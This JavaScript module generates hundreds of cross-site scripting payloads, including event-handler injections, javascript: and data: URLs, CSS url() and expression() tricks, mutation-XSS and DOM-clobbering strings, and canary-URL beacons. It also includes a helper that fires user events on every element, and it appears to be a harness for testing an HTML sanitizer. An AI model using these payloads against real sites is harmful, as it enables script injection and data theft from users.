// Generated script-injection payloads, for the studio and the demo: a payload that runs calls pwn().

const EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerover",
  "onbegin", "onscroll", "onpageshow", "onbeforetoggle", "onfocusin", "ontransitionend", "onauxclick", "onwheel"];
const CARRIERS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x autoplay", "audio src=x autoplay",
  "iframe src=about:blank", "marquee", "a href=# tabindex=0", "div style='animation:x 1s' tabindex=0", "select autofocus",
  "textarea autofocus", "object data=x", "embed src=x", "math href=#", "style", "table background=x", "button autofocus",
  "form", "x-custom tabindex=0", "dialog open", "link rel=stylesheet href=x", "frameset"];
const SCRIPTS = ["javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "\u0001javascript:pwn()", "&#106;avascript:pwn()",
  "javascript&colon;pwn()", "data:text/html,<script>pwn()</script>", "data:image/svg+xml,<svg onload=pwn()>", "vbscript:pwn()"];
const PLACES = ["<a href=\"U\">x</a>", "<iframe src=\"U\"></iframe>", "<form action=\"U\"><input type=submit></form>",
  "<button form=f formaction=\"U\">x</button>", "<object data=\"U\"></object>", "<embed src=\"U\">", "<img src=\"U\">", "<img srcset=\"U 1x\">",
  "<link rel=stylesheet href=\"U\">", "<link rel=prefetch href=\"U\">", "<base href=\"U\"><img src=a>", "<meta http-equiv=refresh content=\"0;url=U\">",
  "<svg><image href=\"U\" /></svg>", "<svg><use xlink:href=\"U\"/></svg>", "<svg><a xlink:href=\"U\"><text>x</text></a></svg>",
  "<video poster=\"U\"></video>", "<body background=\"U\">", "<input type=image src=\"U\">", "<map><area href=\"U\"></map>",
  "<script src=\"U\"></script>", "<iframe srcdoc=\"<img src='U'>\"></iframe>", "<a ping=\"U\" href=#>x</a>", "<track src=\"U\">"];
const STYLES = ["@import 'U';", "@import url(U);", "body{background:url(U)}", "*{list-style-image:url(U)}", "p{cursor:url(U),auto}",
  "@font-face{font-family:x;src:url(U)}*{font-family:x}", "p{content:url(U)}", "p{behavior:url(U)}", "p{-moz-binding:url(U)}",
  "p{width:expression(pwn())}", "p{mask:url(U)}", "p{filter:url(U)}", "p::before{content:image-set('U' 1x)}", "p{border-image:url(U)}"];
const TRICKS = ["<script>R</script>", "<SCRIPT>R</SCRIPT>", "<script\n>R</script\n>", "<svg><script>R</script></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=R&gt;\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=R>\">", "<noscript><p title=\"</noscript><img src=x onerror=R>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=R>", "<template><script>R</script></template>",
  "<textarea><img title=\"</textarea><img src=x onerror=R>\"></textarea>", "<title><img title=\"</title><img src=x onerror=R>\">",
  "<xmp><img title=\"</xmp><img src=x onerror=R>\">", "<plaintext><script>R</script>", "<!--><img src=x onerror=R>-->",
  "<svg><foreignObject><iframe srcdoc='<script>R</script>'></iframe></foreignObject></svg>", "<svg><animate onbegin=R attributeName=x dur=1s>",
  "<svg><set attributeName=href to='javascript:pwn()'/></svg>", "<p name=body>x</p><img name=body><form name=head></form>",
  "<div id=dataset></div><img name=getElementById><img name=createElement>", "<input name=documentElement><form id=parent></form>",
  "<p class=\"</style><script>R</script>\">x", "<p style=\"background:url(U)\">x", "<p style=\"x:expression(R)\">x",
  "<p data-n=1 data-copal-record onclick=R>x", "<a href=\"#\" target=_top onclick=R>x</a>", "<p title='\"><script>R</script>'>x",
  "&lt;script&gt;R&lt;/script&gt;", "<p>]]><script>R</script>", "\u2028<script>R</script>", "<isindex action=javascript:pwn() type=image>",
  "<portal src=U></portal>", "<fencedframe src=U></fencedframe>", "<link rel=import href=U>", "<script type=importmap>{\"imports\":{\"a\":\"U\"}}</script>",
  "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"U\"]}]}</script>", "<meta http-equiv=Content-Security-Policy content='script-src *'><script>R</script>"];

/** Payloads that call `pwn`, or ask for the URL `canary`. */
export function payloadsFor(canary) {
  const run = `pwn();new Image().src='${canary}'`;
  return [
    ...CARRIERS.flatMap(tag => EVENTS.map(event => `<${tag} ${event}="${run}">x`)),
    ...PLACES.flatMap(place => [...SCRIPTS, canary].map(url => place.replaceAll("U", url))),
    ...STYLES.flatMap(css => [`<style>${css.replaceAll("U", canary)}</style><p>x`, `<link rel=stylesheet href="data:text/css,${encodeURIComponent(css.replaceAll("U", canary))}"><p>x`]),
    ...TRICKS.map(html => html.replace(/\bR\b/g, run).replace(/\bU\b/g, canary)),
  ];
}

/** Does what a person could do with everything in an element, or in the document. */
export const provoke = within => {
  for (const element of (within ?? document).querySelectorAll("*")) {
    for (const kind of ["mouseover", "pointerover", "focus", "focusin", "click", "auxclick", "scroll", "wheel", "toggle", "load", "error", "animationstart", "transitionend"]) {
      element.dispatchEvent(new Event(kind, { bubbles: true, cancelable: true }));
    }
    element.focus?.();
  }
};
